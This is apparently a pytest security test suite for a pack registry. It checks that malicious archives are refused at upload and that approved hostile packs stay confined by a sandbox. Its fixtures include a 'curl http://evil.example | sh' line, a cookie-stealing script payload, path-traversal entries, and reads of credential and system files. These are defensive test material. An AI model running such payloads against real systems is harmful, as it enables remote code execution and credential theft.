"""The attack corpus: hostile packs uploaded through the API by an ordinary user, and what becomes of them.

Archive attacks (zip bomb, zip-slip, symlinks, set-uid bits, nested archives, shadowed modules, stolen node ids)
must be refused at upload, naming the file. Packs whose code attacks the server are let through by a careless
site admin who approves whatever is flagged, installed in a team and run: in a real run (the probes) or in a
pool of hosts with small limits (the resource attacks). Canaries outside the sandbox (a random file, the real
SECRET_KEY, the database URL, another pack's data, a TCP, a unix and an abstract socket) must stay untouched,
unread and unconnected.
"""

from __future__ import annotations

import ast
import hashlib
import io
import json
import os
import secrets
import select
import socket
import subprocess
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.conf import settings as django_settings

from backend.registry.models import NodePackVersion, Publisher
from backend.registry.runtime import pack_environments
from backend.registry.tests.attack_packs import (
    FIFO_MODE,
    HOSTILE_NODES,
    IMPORT_TIME_MODULE,
    SETUID_MODE,
    SYMLINK_MODE,
    VICTIM_MODULE,
    entry,
    pack_files,
    write_archive,
)
from backend.registry.tests.conftest import installed_packs_settings
from nodepacks.sdk import Context
from workers.packs.files import HASHES_FILE, FileEntry, hash_list_bytes
from workers.runtime.packhost import PackEnv, PackHostPool, sandbox
from workers.runtime.packhost.client import PackHostError, RemoteError
from workers.runtime.packhost.sandbox import HostLimits

pytestmark = pytest.mark.django_db(transaction=True)

REPO = Path(__file__).resolve().parents[3]
MIB = 2**20
TOKEN = secrets.token_hex(6)
"""In the name of every file a hostile node tries to write, and of its processes: found wherever they land."""
VICTIM_DATA = f"victim-data-{secrets.token_hex(16)}"
"""A data file of another pack (``victim``): no hostile pack may read it."""


@pytest.fixture(autouse=True, scope="module")
def require_sandbox() -> None:
    """Locally the corpus needs bubblewrap; in CI a missing sandbox is a failure, never a skip."""
    state = sandbox.status()
    if not state["secure"]:
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail(f"the pack sandbox must work in CI: {state['reason']}")
        pytest.skip(f"the pack sandbox does not work here: {state['reason']}")


# Canaries


class CanaryServer:
    """A TCP socket on 127.0.0.1, a unix socket in the canary folder and an abstract socket, all listening."""

    def __init__(self, folder: Path) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.unix_path = str(folder / "canary.sock")
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(self.unix_path)
        self.unix.listen()
        self.abstract_name = f"flowyard-canary-{TOKEN}"
        self.abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract.bind("\0" + self.abstract_name)
        self.abstract.listen()
        self.accepted: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, name="canary-server", daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        kinds = {self.tcp: "tcp", self.unix: "unix", self.abstract: "abstract"}
        while not self._stop.is_set():
            ready, _, _ = select.select(list(kinds), [], [], 0.1)
            for listener in ready:
                connection, _ = listener.accept()
                self.accepted.append(kinds[listener])
                connection.close()

    def wait_for(self, count: int) -> list[str]:
        deadline = time.monotonic() + 5
        while len(self.accepted) < count and time.monotonic() < deadline:
            time.sleep(0.01)
        return list(self.accepted)

    def connections_since(self, mark: int) -> list[str]:
        """What was accepted after ``mark`` (``len(self.accepted)`` taken before), once the thread caught up."""
        time.sleep(0.3)
        return self.accepted[mark:]

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        for listener in (self.tcp, self.unix, self.abstract):
            listener.close()


def prove_listening(server: CanaryServer) -> None:
    """The canaries do accept connections, from this process: so zero connections from a pack means something."""
    before = len(server.accepted)
    socket.create_connection(("127.0.0.1", server.port), timeout=2).close()
    for address in (server.unix_path, "\0" + server.abstract_name):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
            client.connect(address)
    assert sorted(server.wait_for(before + 3)[before:]) == ["abstract", "tcp", "unix"]


def snapshot(*folders: Path) -> dict[str, str]:
    """Every file under ``folders`` with a hash of its content (symlinks by target)."""
    found: dict[str, str] = {}
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_symlink():
                found[str(path)] = "-> " + os.readlink(path)
            elif path.is_file():
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
            elif path.is_socket():
                found[str(path)] = "socket"
            else:
                found[str(path)] = "dir"
    return found


def comm_count(marker: str) -> int:
    """How many processes on this machine carry ``marker`` as their name (/proc/<pid>/comm)."""
    count = 0
    for entry_ in os.scandir("/proc"):
        if entry_.name.isdigit():
            try:
                with open(f"/proc/{entry_.name}/comm") as handle:
                    count += handle.read().strip() == marker
            except OSError:
                pass
    return count


@pytest.fixture(scope="module")
def shared(tmp_path_factory) -> dict[str, Path]:
    """Pack environments and blobs kept across the module (one environment build per archive)."""
    root = tmp_path_factory.mktemp("corpus")
    return {"envs": root / "envs", "blobs": root / "blobs", "scratch": root / "scratch"}


@pytest.fixture(autouse=True)
def corpus_settings(settings, shared):
    with installed_packs_settings(settings, shared["blobs"], shared["envs"]):
        yield


@pytest.fixture(scope="module")
def canary(tmp_path_factory) -> Iterator[dict]:
    """A folder outside every sandbox with a random file and the listening sockets."""
    folder = tmp_path_factory.mktemp("canary")
    secret = f"canary-{secrets.token_hex(16)}"
    (folder / "secret.txt").write_text(secret)
    (folder / "flowyard.sqlite3").write_bytes(b"SQLite format 3\x00" + secret.encode())
    server = CanaryServer(folder)
    try:
        yield {"folder": folder, "file": folder / "secret.txt", "secret": secret, "server": server}
    finally:
        server.close()


@pytest.fixture
def secret_values(canary, monkeypatch) -> list[str]:
    """Values no pack may ever show: the canary, the real SECRET_KEY, the database URL, cloud keys."""
    aws = f"aws-{secrets.token_hex(12)}"
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", aws)
    monkeypatch.setenv("SECRET_KEY", django_settings.SECRET_KEY)
    values = [canary["secret"], django_settings.SECRET_KEY, aws, VICTIM_DATA]
    if os.environ.get("DATABASE_URL"):
        values.append(os.environ["DATABASE_URL"])
    if os.environ.get("FLOWYARD_TEST_REDIS_URL"):
        monkeypatch.setenv("REDIS_URL", os.environ["FLOWYARD_TEST_REDIS_URL"])
    assert all(len(value) >= 16 for value in values), "a short canary could match by chance"
    return values


def assert_never_shown(values: list[str], *texts: str) -> None:
    for text in texts:
        for value in values:
            assert value not in text, f"a secret leaked: {value[:12]}... in {text[:300]}"


# Uploading


def upload_as(upload, user, archive: Path):
    """POST the archive as ``user``; the response and its JSON body."""
    response = upload(user, archive)
    return response, response.json()


def approve(client_for, admin, body: dict) -> NodePackVersion:
    """A careless site admin approves a flagged (or pending) version without reading it."""
    version_id = body["version"]["id"]
    approved = client_for(admin).post(
        f"/api/packs/versions/{version_id}/approve", {"reason": "lgtm"}, format="json"
    )
    assert approved.status_code == 200, approved.json()
    version = NodePackVersion.objects.get(pk=version_id)
    assert version.status == "active"
    return version


def install(client_for, owner, team, name: str) -> None:
    response = client_for(owner).post(f"/api/workspaces/{team.pk}/packs", {"pack": name}, format="json")
    assert response.status_code in (200, 201), response.json()


def env_of(archive: Path) -> PackEnv:
    """The environment of ``archive`` under the module's root (built once, shared with the run path)."""
    return pack_environments().ensure(archive, hashlib.sha256(archive.read_bytes()).hexdigest())


# Archive attacks: refused at upload, naming the file


def _zip_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as inner:
        for name, data in files.items():
            inner.writestr(name, data)
    return buffer.getvalue()


def _tampered(path: Path, name: str) -> Path:
    files = pack_files(name, "oscar")
    listed = [FileEntry(n, hashlib.sha256(d).hexdigest(), len(d)) for n, d in sorted(files.items())]
    files[f"{name}/__init__.py"] += b"\nimport os\nos.system('curl http://evil.example | sh')\n"
    return write_archive(path, {**files, HASHES_FILE: hash_list_bytes(listed)}, hash_list=False)


def _node_id(name: str, node_id: str) -> str:
    module = pack_files(name, "oscar")[f"{name}/__init__.py"].decode()
    return module.replace(f'id = "{name}.Hello"', f'id = "{node_id}"')


# (builder of the archive in a folder, refusal code, file the refusal names)
ARCHIVE_ATTACKS: dict[str, tuple[Callable[[Path], Path], str, str]] = {
    "zip bomb": (
        lambda p: write_archive(p, pack_files("bomb", "oscar"), [(entry("bomb/zeros.bin"), bytes(9 * MIB))]),
        "compression-ratio",
        "bomb/zeros.bin",
    ),
    "zip-slip": (
        lambda p: write_archive(
            p, pack_files("slip", "oscar"), [(entry("../../etc/cron.d/evil"), b"* * * * *")]
        ),
        "path-traversal",
        "../../etc/cron.d/evil",
    ),
    "zip-slip inside a folder": (
        lambda p: write_archive(
            p, pack_files("slip2", "oscar"), [(entry("slip2/../../../root/.bashrc"), b"x")]
        ),
        "path-traversal",
        "slip2/../../../root/.bashrc",
    ),
    "backslash traversal": (
        lambda p: write_archive(p, pack_files("slash", "oscar"), [(entry("..\\..\\evil.py"), b"x")]),
        "bad-name",
        "..\\..\\evil.py",
    ),
    "absolute path": (
        lambda p: write_archive(p, pack_files("absol", "oscar"), [(entry("/etc/cron.d/evil"), b"* * * * *")]),
        "absolute-path",
        "/etc/cron.d/evil",
    ),
    "windows drive path": (
        lambda p: write_archive(p, pack_files("drive", "oscar"), [(entry("C:/Windows/evil.dll"), b"MZ")]),
        "absolute-path",
        "C:/Windows/evil.dll",
    ),
    "symlink entry": (
        lambda p: write_archive(
            p, pack_files("links", "oscar"), [(entry("links/passwd", SYMLINK_MODE), b"/etc/passwd")]
        ),
        "symlink",
        "links/passwd",
    ),
    "set-uid entry": (
        lambda p: write_archive(
            p, pack_files("suid", "oscar"), [(entry("suid/tool", SETUID_MODE), b"#!/bin/sh\nid\n")]
        ),
        "special-file",
        "suid/tool",
    ),
    "fifo entry": (
        lambda p: write_archive(p, pack_files("fifo", "oscar"), [(entry("fifo/pipe", FIFO_MODE), b"")]),
        "special-file",
        "fifo/pipe",
    ),
    "invisible characters in a name": (
        lambda p: write_archive(p, pack_files("rtl", "oscar"), [(entry("rtl/evil\u202egnp.py"), b"x = 1\n")]),
        "bad-name",
        "rtl/evil\u202egnp.py",
    ),
    "encrypted entry": (
        lambda p: _mark_encrypted(
            write_archive(p, pack_files("sealed", "oscar"), [(entry("sealed/data.txt"), b"x")]),
            "sealed/data.txt",
        ),
        "encrypted",
        "sealed/data.txt",
    ),
    "bzip2 entry": (
        lambda p: write_archive(
            p, pack_files("bzip", "oscar"), [(entry("bzip/data.txt", compress_type=zipfile.ZIP_BZIP2), b"x")]
        ),
        "compression-method",
        "bzip/data.txt",
    ),
    "duplicate entry differing in case": (
        lambda p: write_archive(
            p, pack_files("dupe", "oscar"), [(entry("dupe/__INIT__.py"), b"import os\n")]
        ),
        "duplicate-entry",
        "dupe/__INIT__.py",
    ),
    "file changed after hashing": (lambda p: _tampered(p, "tamper"), "hash-mismatch", "tamper/__init__.py"),
    "file missing from the hash list": (
        lambda p: write_archive(
            p, pack_files("unlisted", "oscar"), [(entry("unlisted/extra.py"), b"x = 1\n")]
        ),
        "unlisted-file",
        "unlisted/extra.py",
    ),
    "nested zip archive": (
        lambda p: write_archive(
            p, {**pack_files("nested", "oscar"), "nested/payload.zip": _zip_of({"evil.py": b"import os\n"})}
        ),
        "nested-archive",
        "nested/payload.zip",
    ),
    "nested archive under an innocent name": (
        lambda p: write_archive(
            p, {**pack_files("nested2", "oscar"), "nested2/weights.bin": _zip_of({"json.py": b"x = 1\n"})}
        ),
        "nested-archive",
        "nested2/weights.bin",
    ),
    "stdlib-shadowing json.py": (
        lambda p: write_archive(p, {**pack_files("shadow", "oscar"), "json.py": b"loads = dumps = print\n"}),
        "shadows-stdlib",
        "json.py",
    ),
    "start-up hook sitecustomize.py": (
        lambda p: write_archive(p, {**pack_files("hook", "oscar"), "sitecustomize.py": b"import os\n"}),
        "shadows-",
        "sitecustomize.py",
    ),
    "host-module shadowing numpy": (
        lambda p: write_archive(
            p, {**pack_files("npshadow", "oscar"), "numpy/__init__.py": b"array = None\n"}
        ),
        "shadows-host-module",
        "numpy/__init__.py",
    ),
    "node id without the pack prefix": (
        lambda p: write_archive(p, pack_files("grab", "oscar", module=_node_id("grab", "LoadImage"))),
        "node-prefix",
        "grab/__init__.py",
    ),
    "node id of another pack": (
        lambda p: write_archive(p, pack_files("grab2", "oscar", module=_node_id("grab2", "victim.Hello"))),
        "node-prefix",
        "grab2/__init__.py",
    ),
}


def _mark_encrypted(path: Path, name: str) -> Path:
    """Set the "encrypted" bit of ``name`` in its local and central headers (zipfile clears it when writing)."""
    data = bytearray(path.read_bytes())
    encoded = name.encode()
    for signature, flags_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        start = data.find(signature)
        while start != -1 and data[start + name_at : start + name_at + len(encoded)] != encoded:
            start = data.find(signature, start + 1)
        assert start != -1, (signature, name)
        data[start + flags_at] |= 0x1
    path.write_bytes(bytes(data))
    return path


@pytest.mark.parametrize("attack", ARCHIVE_ATTACKS, ids=list(ARCHIVE_ATTACKS))
def test_archive_attack_is_refused_at_upload_naming_the_file(
    attack, tmp_path, upload, oscar, alice, team, client_for, canary
):
    build, code, file = ARCHIVE_ATTACKS[attack]
    archive = build(tmp_path / "attack.flowyard.zip")
    before = snapshot(canary["folder"], REPO / "var")
    response, body = upload_as(upload, oscar, archive)
    assert response.status_code == 422, body
    assert body["status"] == "rejected"
    errors = body["report"]["errors"]
    matching = [e for e in errors if e["code"].startswith(code)]
    assert matching, errors
    assert any(e.get("file") == file or repr(file) in e["message"] for e in matching), matching
    version = NodePackVersion.objects.get(pk=body["version"]["id"])
    assert version.status == "rejected"
    refused = client_for(alice).post(
        f"/api/workspaces/{team.pk}/packs", {"pack": version.pack.name}, format="json"
    )
    assert refused.status_code in (404, 409), refused.json()
    assert snapshot(canary["folder"], REPO / "var") == before


def test_publishing_as_another_publisher_is_refused(tmp_path, upload, oscar, alice):
    Publisher.objects.create(slug="alice", display_name="Alice", user=alice, trusted=True)
    archive = write_archive(tmp_path / "spoof.flowyard.zip", pack_files("spoof", "alice"))
    response, body = upload_as(upload, oscar, archive)
    assert response.status_code == 403, body
    assert "You may not publish as 'alice'" in body["message"]
    assert not NodePackVersion.objects.exists()


def test_readme_script_is_stored_sanitised(tmp_path, upload, oscar):
    files = pack_files("readme", "oscar")
    files["README.md"] = (
        b"# readme\n\n<script>fetch('https://evil.example/?c='+document.cookie)</script>\n"
        b'<img src=x onerror="alert(1)"> [docs](javascript:alert(1))\n'
    )
    response, body = upload_as(upload, oscar, write_archive(tmp_path / "readme.flowyard.zip", files))
    assert response.status_code == 201 and body["status"] == "pending", body
    html = NodePackVersion.objects.get(pk=body["version"]["id"]).readme_html
    tags = Tags()
    tags.feed(html)
    assert ("h1", []) in tags.found  # the markdown was rendered...
    for tag, attrs in tags.found:  # ...and nothing in it runs
        assert tag not in ("script", "img", "iframe"), html
        assert not any(name.startswith("on") or "javascript:" in (value or "") for name, value in attrs), html
    assert "&lt;script&gt;" in html  # shown as text


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


# Code attacks: let through by a careless admin, then run


@pytest.fixture(scope="module")
def archives(tmp_path_factory, canary) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("corpus-src")
    victim = pack_files("victim", "alice", module=VICTIM_MODULE)
    victim["victim/data.txt"] = VICTIM_DATA.encode()
    import_time = IMPORT_TIME_MODULE.format(
        paths=[str(canary["file"]), str(REPO / "var" / "secret_key"), "/etc/passwd"],
        port=canary["server"].port,
        name="{name}",
        version="{version}",
    )
    return {
        "hostile": write_archive(
            root / "hostile.flowyard.zip", pack_files("hostile", "oscar", module=HOSTILE_NODES)
        ),
        "victim": write_archive(root / "victim.flowyard.zip", victim),
        "importer": write_archive(
            root / "importer.flowyard.zip", pack_files("importer", "oscar", module=import_time)
        ),
    }


def publish_hostile(upload, client_for, oscar, alice, archive: Path) -> NodePackVersion:
    """Upload as oscar: the scan flags it (or the validator refuses it); alice approves it unread."""
    response, body = upload_as(upload, oscar, archive)
    assert response.status_code == 201, body
    assert body["status"] == "flagged", body
    assert any(f["severity"] == "high" for f in body["report"]["findings"])
    return approve(client_for, alice, body)


def run_graph(client, team, nodes: dict[str, tuple[str, dict]], wait_for_run) -> dict:
    graph: dict[str, dict] = {"nodes": {}}
    for key, (node_type, inputs) in nodes.items():
        graph["nodes"][key] = {"type": node_type, "inputs": inputs}
        graph["nodes"][f"show-{key}"] = {"type": "PreviewAny", "inputs": {"source": [key, 0]}}
    response = client.post("/api/runs", {"workspace": team.pk, "graph": graph}, format="json")
    assert response.status_code == 201, response.json()
    run = wait_for_run(response.json()["id"], timeout=30)
    detail = client.get(f"/api/runs/{run.pk}").json()
    assert run.status == "succeeded", (run.error, [n for n in detail["nodes"] if n["error"]])
    return detail


def texts(detail: dict) -> dict[str, str]:
    return {r["node_id"].removeprefix("show-"): r["text"] for r in detail["results"] if r["kind"] == "text"}


def denied(outcome: str) -> bool:
    return outcome.startswith("denied: ")


def test_hostile_nodes_in_a_real_run_reach_nothing_outside_the_sandbox(
    archives, canary, secret_values, shared, upload, oscar, alice, team, client_for, wait_for_run, caplog
):
    caplog.set_level("DEBUG")
    Publisher.objects.create(slug="alice", display_name="Alice", user=alice, trusted=True)
    victim = upload_as(upload, alice, archives["victim"])[1]
    assert victim["status"] == "active", victim
    publish_hostile(upload, client_for, oscar, alice, archives["hostile"])
    install(client_for, alice, team, "victim")
    install(client_for, alice, team, "hostile")
    hostile_env, victim_env = env_of(archives["hostile"]), env_of(archives["victim"])
    folder, server = canary["folder"], canary["server"]
    watched = [folder, REPO / "var", victim_env.src]
    before, mark = snapshot(*watched), len(server.accepted)

    reads = [
        str(canary["file"]), str(folder), str(folder / "flowyard.sqlite3"), str(REPO), str(REPO / "var"),
        str(REPO / "var" / "secret_key"), str(REPO / "backend" / "settings.py"), str(REPO / ".git" / "config"),
        "/etc/passwd", "/etc/shadow", "/root", "/root/.ssh", "/home", "/var/run/docker.sock",
        str(victim_env.src / "victim" / "data.txt"), str(victim_env.path), str(shared["blobs"]),
        str(shared["envs"]),
    ]  # fmt: skip
    own_code = str(hostile_env.src / "hostile" / "__init__.py")  # readable: proves the node does read
    reads.append(own_code)
    database = django_settings.DATABASES["default"]
    if database["ENGINE"].endswith("sqlite3"):
        reads.append(str(database["NAME"]))
    writes = [
        str(folder / f"PWNED-{TOKEN}"), str(REPO / f"PWNED-{TOKEN}"), str(REPO / "var" / f"PWNED-{TOKEN}"),
        f"/root/PWNED-{TOKEN}", f"/etc/PWNED-{TOKEN}", f"/usr/PWNED-{TOKEN}", str(hostile_env.src / f"PWNED-{TOKEN}"),
        str(hostile_env.venv / f"PWNED-{TOKEN}"), str(victim_env.src / f"PWNED-{TOKEN}"),
        str(shared["envs"] / f"PWNED-{TOKEN}"), str(shared["blobs"] / f"PWNED-{TOKEN}"), f"/tmp/PWNED-{TOKEN}",
        "note.txt",  # in the scratch folder: allowed, proves the node does write
    ]  # fmt: skip
    worker = [os.getpid(), os.getppid()]
    nodes = {
        "read": ("hostile.ReadFiles", {"target": json.dumps({"paths": reads})}),
        "write": ("hostile.WriteFiles", {"target": json.dumps({"paths": writes})}),
        "environ": ("hostile.Environ", {"target": "{}"}),
        "proc": ("hostile.ProcSnoop", {"target": json.dumps({"pids": worker})}),
        "network": (
            "hostile.Network",
            {
                "target": json.dumps(
                    {
                        "tcp": [
                            ["127.0.0.1", server.port],
                            ["127.0.0.1", 5432],
                            ["127.0.0.1", 6379],
                            ["1.1.1.1", 80],
                        ],
                        "unix": [server.unix_path, "/var/run/postgresql/.s.PGSQL.5432"],
                        "abstract": [server.abstract_name],
                        "dns": ["example.com", "flowyard.example"],
                    }
                )
            },
        ),
        "privileges": ("hostile.Privileges", {"target": "{}"}),
        "signals": ("hostile.Signals", {"target": json.dumps({"pids": worker})}),
        "refs": (
            "hostile.FileRefs",
            {
                "target": json.dumps(
                    {"refs": [str(canary["file"]), f"../../../..{canary['file']}", "../var/secret_key"]}
                )
            },
        ),
        "save": (
            "hostile.SaveOutside",
            {"target": json.dumps({"prefix": f"../../../../{folder}/PWNED-{TOKEN}"})},
        ),
    }
    owner = client_for(alice)
    detail = run_graph(owner, team, nodes, wait_for_run)
    shown = texts(detail)
    report = {key: json.loads(shown[key]) for key in nodes if key != "save"}

    # Nothing outside the sandbox was read: a folder on the way to one of the sandbox's mounts exists, holding
    # only the way to that mount (e.g. the repository shows `.venv`, the interpreter's home); nothing else does.
    mounts = sandbox_mounts(hostile_env)
    own = report["read"].pop(own_code)
    assert own.startswith("ok: ") and "class ReadFiles" in own, own
    for path, outcome in report["read"].items():
        if not denied(outcome):
            listing = ast.literal_eval(outcome.removeprefix("ok: "))
            assert isinstance(listing, list), (path, outcome)
            assert all(any(is_within(m, f"{path}/{name}") for m in mounts) for name in listing), (
                path,
                outcome,
            )
    # ...or written (a path under /tmp lands in the sandbox's private /tmp, gone with it)
    assert report["write"].pop("note.txt") == "ok: 'note.txt'"
    for path, outcome in report["write"].items():
        assert denied(outcome) or path.startswith("/tmp/PWNED-"), (path, outcome)
        assert not Path(path).exists(), path
    # The environment is the allow-list; the worker's secrets are in none of its readings.
    assert set(report["environ"]["environ"]) <= set(sandbox.scrubbed_env(Path("/x"))) | {"PWD"}
    # /proc shows the sandbox's own few processes, never the worker's.
    proc = report["proc"]
    assert max(proc["visible"]) < 100 and len(proc["visible"]) < 10, proc["visible"]
    own = [Path(f"/proc/{pid}/cmdline").read_bytes().decode("latin-1") for pid in worker]
    for text in proc["cmdlines"].values():  # bubblewrap's init and the host itself, nothing of the worker
        assert "flowyard_packhost.host" in text or text.startswith(f"ok: '{sandbox.bwrap_probe()[0]}"), text
        assert not any(repr(cmdline)[1:-1] in text for cmdline in own), text
    for pid in worker:
        for what in ("cmdline", "environ", "status", "root", "cwd", "fd"):
            assert denied(proc[f"{pid}/{what}"]) or pid in proc["visible"], (pid, what, proc[f"{pid}/{what}"])
    # No network: no canary connection, no database, no Redis, no DNS, no raw or packet sockets.
    for what, outcome in report["network"].items():
        if what == "interfaces":
            assert outcome in ("ok: ['lo']", "ok: []"), outcome
        else:
            assert denied(outcome), (what, outcome)
    assert server.connections_since(mark) == []
    # Never root, no capabilities, no privilege gained.
    privileges = report["privileges"]
    assert privileges["euid"] != 0 and privileges["uid"] != 0 and privileges["euid after"] != 0, privileges
    for call in ("setuid", "seteuid", "setgid", "setgroups", "chroot", "mount"):
        assert denied(privileges[call]), (call, privileges[call])
    assert int(privileges["CapEff"], 16) == 0 and int(privileges["CapPrm"], 16) == 0, privileges
    assert privileges["NoNewPrivs"] == "1", privileges
    # The worker and its parent can be neither signalled nor traced.
    for pid in worker:
        assert denied(report["signals"][f"kill {pid}"]), report["signals"]
        assert denied(report["signals"][f"ptrace {pid}"]), report["signals"]
    # The host's channel to the worker serves uploads of the workspace only.
    for what, outcome in report["refs"].items():
        assert denied(outcome), (what, outcome)
    [saved] = [r for r in detail["results"] if r["node_id"] == "save" and r["kind"] == "image"]
    assert "/" not in saved["filename"] and "\\" not in saved["filename"], saved  # one flat name, no path

    # The canaries: never shown anywhere, unchanged, never connected to.
    events = owner.get(f"/api/runs/{detail['id']}/events").content.decode()
    stderr = bytes(pack_host_stderr(hostile_env)).decode("utf-8", "replace")
    assert_never_shown(secret_values, json.dumps(detail), events, caplog.text, stderr, json.dumps(report))
    assert snapshot(*watched) == before
    assert not list(Path("/tmp").glob(f"PWNED-{TOKEN}*"))
    prove_listening(server)


def sandbox_mounts(env: PackEnv) -> list[str]:
    """The paths a host of ``env`` sees from the real file system (its bubblewrap binds)."""
    command = sandbox.bwrap_command("bwrap", env, Path("/scratch"), ["python"], sandbox.claim_host_identity())
    return [command[i + 2] for i, arg in enumerate(command) if arg in ("--ro-bind", "--bind")]


def is_within(mount: str, path: str) -> bool:
    return mount == path or mount.startswith(path.rstrip("/") + "/")


def pack_host_stderr(env: PackEnv) -> bytearray:
    from backend.registry.runtime import pack_host_pool

    return pack_host_pool().host(env)._stderr


def test_import_time_attack_runs_confined_when_an_admin_lets_it_through(
    archives, canary, secret_values, upload, oscar, alice, team, client_for, wait_for_run, caplog
):
    caplog.set_level("DEBUG")
    response, body = upload_as(upload, oscar, archives["importer"])
    if body["status"] == "rejected":  # refused outright: it never runs
        assert any(e.get("file") == "importer/__init__.py" for e in body["report"]["errors"]), body
        return
    assert body["status"] == "flagged", body
    approve(client_for, alice, body)
    install(client_for, alice, team, "importer")
    before, mark = snapshot(canary["folder"], REPO / "var"), len(canary["server"].accepted)
    detail = run_graph(client_for(alice), team, {"loot": ("importer.Loot", {})}, wait_for_run)
    loot = json.loads(texts(detail)["loot"])
    assert set(loot["loot"]) == {str(canary["file"]), str(REPO / "var" / "secret_key"), "/etc/passwd"}
    for path, what in loot["loot"].items():
        assert "Error" in what, (path, what)  # the repr of the OSError, never the content
    assert_never_shown(secret_values, json.dumps(detail), caplog.text, json.dumps(loot))
    assert snapshot(canary["folder"], REPO / "var") == before
    assert canary["server"].connections_since(mark) == []
    prove_listening(canary["server"])


# Resource attacks: dedicated pools with small limits


@pytest.fixture
def hostile_env(archives) -> PackEnv:
    return env_of(archives["hostile"])


def call(pool: PackHostPool, env: PackEnv, node: str, target: dict | None = None, **kwargs) -> dict | str:
    outputs, _ = pool.execute(
        env, f"hostile.{node}", {"target": json.dumps(target or {})}, Context("n"), **kwargs
    )
    assert outputs is not None
    text = outputs[0]
    return json.loads(text) if text.startswith("{") else text


def alive(pool: PackHostPool, env: PackEnv) -> int:
    answer = call(pool, env, "Alive")
    assert isinstance(answer, str) and answer.startswith("alive "), answer
    return pool.host(env).pid or 0


@pytest.fixture
def small_pool(shared) -> Iterator[PackHostPool]:
    limits = HostLimits(
        memory_bytes=512 * MIB,
        cpu_seconds=20,
        file_bytes=8 * MIB,
        scratch_bytes=20 * MIB,
        open_files=64,
        processes=16,
        call_timeout=20,
    )
    with PackHostPool(limits=limits, scratch_root=shared["scratch"]) as pool:
        yield pool


def test_memory_hog_fails_and_the_next_call_works(small_pool, hostile_env):
    first = alive(small_pool, hostile_env)
    with pytest.raises((RemoteError, PackHostError), match="MemoryError|killed|exited") as caught:
        call(small_pool, hostile_env, "MemoryHog", {"bytes": 2048 * MIB})
    # A MemoryError leaves the host standing (the hog's memory is freed); a host the limit killed is replaced.
    assert (alive(small_pool, hostile_env) == first) == isinstance(caught.value, RemoteError)


def test_memory_limit_holds_for_the_host_processes_together(small_pool, hostile_env):
    """RLIMIT_AS binds each process alone; the host's watchdog adds up all its processes and kills it."""
    with pytest.raises(
        PackHostError, match=r"processes together used \d+ MiB, more than its memory limit of 512 MiB"
    ):
        # Held for 2 s: the watchdog samples every 0.25 s, so a burst shorter than that can pass unseen
        # (docs/security.md, "Known limits").
        call(small_pool, hostile_env, "MemoryFanOut", {"children": 3, "bytes": 300 * MIB, "hold": 2})
    alive(small_pool, hostile_env)  # a fresh host takes its place


def test_busy_loop_is_killed_by_the_call_timeout(shared, hostile_env):
    limits = HostLimits(call_timeout=2)
    with PackHostPool(limits=limits, scratch_root=shared["scratch"]) as pool:
        first = alive(pool, hostile_env)
        with pytest.raises(PackHostError, match="did not finish within 2 s"):
            call(pool, hostile_env, "Spin")
        assert alive(pool, hostile_env) != first


def test_busy_loop_is_killed_by_the_cpu_limit(shared, hostile_env):
    limits = HostLimits(cpu_seconds=3)
    with PackHostPool(limits=limits, scratch_root=shared["scratch"]) as pool:
        first = alive(pool, hostile_env)
        with pytest.raises(PackHostError, match=r"SIGXCPU|SIGKILL|code 137|code 152|CPU time"):
            call(pool, hostile_env, "Spin", timeout=60)
        assert alive(pool, hostile_env) != first


def test_fork_bomb_stops_at_the_process_limit_and_leaves_nothing_behind(small_pool, hostile_env):
    marker = f"fy{TOKEN}"
    result = call(small_pool, hostile_env, "ForkBomb", {"max": 2000, "marker": marker})
    assert isinstance(result, dict)
    assert result["error"] and result["forked"] < small_pool.limits.processes, result
    deadline = time.monotonic() + 5
    while comm_count(marker) < result["forked"] and time.monotonic() < deadline:
        time.sleep(0.05)
    assert comm_count(marker) == result["forked"]  # the bomb's processes are standing, and found
    small_pool.close()
    deadline = time.monotonic() + 10
    while comm_count(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert comm_count(marker) == 0, "processes of the fork bomb outlived their host"
    assert subprocess.run(["true"], check=False).returncode == 0  # this machine still forks
    assert alive(small_pool, hostile_env)


def test_open_files_stop_at_the_limit(small_pool, hostile_env):
    result = call(small_pool, hostile_env, "OpenFiles", {"max": 100_000})
    assert isinstance(result, dict)
    assert "Too many open files" in result["error"] and result["opened"] < small_pool.limits.open_files, (
        result
    )
    alive(small_pool, hostile_env)


def test_huge_file_stops_at_the_file_size_limit(small_pool, hostile_env):
    limit = small_pool.limits.file_bytes
    result = call(small_pool, hostile_env, "BigFile", {"paths": ["big.bin"], "bytes": 64 * MIB})
    assert isinstance(result, dict)
    assert "File too large" in result["big.bin"]["error"] and result["big.bin"]["written"] <= limit, result
    alive(small_pool, hostile_env)


def test_scratch_writes_stop_at_a_total_quota(small_pool, hostile_env):
    """RLIMIT_FSIZE binds each file alone; scratch is a tmpfs of ``scratch_bytes``, so all files together stop."""
    quota = small_pool.limits.scratch_bytes
    result = call(
        small_pool, hostile_env, "BigFile", {"paths": [f"part{i}.bin" for i in range(4)], "bytes": 8 * MIB}
    )
    assert isinstance(result, dict)
    assert sum(outcome["written"] for outcome in result.values()) <= quota, result
    assert any("No space left on device" in outcome["error"] for outcome in result.values()), result


def test_kill_every_process_reaches_only_the_host(small_pool, hostile_env, archives, canary):
